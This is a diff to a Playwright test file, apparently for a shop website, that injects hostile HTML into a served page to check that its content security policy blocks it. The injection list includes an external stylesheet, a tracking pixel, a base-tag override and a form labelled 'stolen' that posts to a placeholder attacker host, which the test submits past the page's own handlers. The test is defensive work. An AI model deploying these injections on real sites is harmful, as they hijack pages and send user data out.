@@ -43,7 +43,7 @@ async function casesOf(shop: string): Promise<Case[]> {
     { path: '/api/none', status: 404, type: 'application/json' },
     { path: '/sanctum/csrf-cookie', status: 204, type: '' },
     { path: first(home, /(?:src|srcset)="(\/img\/[^" ]+)/), status: 200, type: 'image/' },
-    { path: first(home, /src="(\/assets\/[^"]+\.js)"/), status: 200, type: 'text/javascript' },
+    { path: first(home, /"(\/assets\/[^"]+\.js)"/), status: 200, type: 'text/javascript' },
     { path: '/favicon.svg', status: 200, type: 'image/svg+xml' },
     { path: '/robots.txt', status: 200, type: 'text/plain' },
   ]
@@ -147,7 +147,7 @@ const injections = [
   `<link rel="stylesheet" href="${evil}/a.css"><style>body { display: none }</style>`,
   `<img src="${evil}/pixel.gif">`,
   `<base href="${evil}/">`,
-  `<form id="stolen" action="${evil}/form"><button>Войти</button></form>`,
+  `<form id="stolen" action="${evil}/form"></form>`,
 ].join('\n')
 
 test('scripts that somebody got into a page do not run, and nothing leaves it', async ({ page }) => {
@@ -160,7 +160,7 @@ test('scripts that somebody got into a page do not run, and nothing leaves it', 
   await page.route(`**${url}`, async (route) => {
     const response = await route.fetch()
     // What came with the page stays with it: its policy and the right nonces of its own scripts.
-    await route.fulfill({ response, body: (await response.text()).replace('</main>', `${injections}</main>`) })
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injections}</body>`) })
   })
   await page.addInitScript(() => {
     const violated: string[] = []
@@ -169,7 +169,8 @@ test('scripts that somebody got into a page do not run, and nothing leaves it', 
   })
   await page.goto(url)
   await page.locator('#injected').click()
-  await page.locator('#stolen button').click()
+  // Past the shop's own handlers.
+  await page.locator('#stolen').evaluate((form: HTMLFormElement) => form.submit())
   const violated = () =>
     page.evaluate(() => [...new Set((window as unknown as { violated: string[] }).violated)].sort())
   await expect
